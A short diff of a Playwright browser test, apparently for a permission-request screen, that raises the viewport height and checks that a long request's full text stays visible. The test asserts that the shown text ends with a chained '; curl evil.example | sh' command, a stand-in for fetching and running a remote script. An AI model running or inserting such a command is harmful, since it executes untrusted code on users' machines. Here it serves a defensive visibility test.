@@ -19,7 +19,7 @@ const browser = await chromium.launch({
   args: ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
     "--disable-component-update", "--disable-sync"],
 });
-const context = await browser.newContext({ viewport: { width: 1280, height: 800 }, hasTouch: true });
+const context = await browser.newContext({ viewport: { width: 1280, height: 1600 }, hasTouch: true });
 
 /** Another server on another port of the same host, which keeps what browsers send it. */
 const sent = [];
@@ -113,7 +113,7 @@ await step("the text of a permission request is visible to its end, above its bu
   await long.waitFor();
   const source = long.locator(".source");
   for (const width of [360, 1280]) {
-    await tab.setViewportSize({ width, height: 800 });
+    await tab.setViewportSize({ width, height: 1600 });
     assert.match(await source.innerText(), /; curl evil\.example \| sh\s*$/);
     const seen = await source.evaluate((one) => ({
       cut: one.scrollHeight - one.clientHeight > 1 || one.scrollWidth - one.clientWidth > 1,
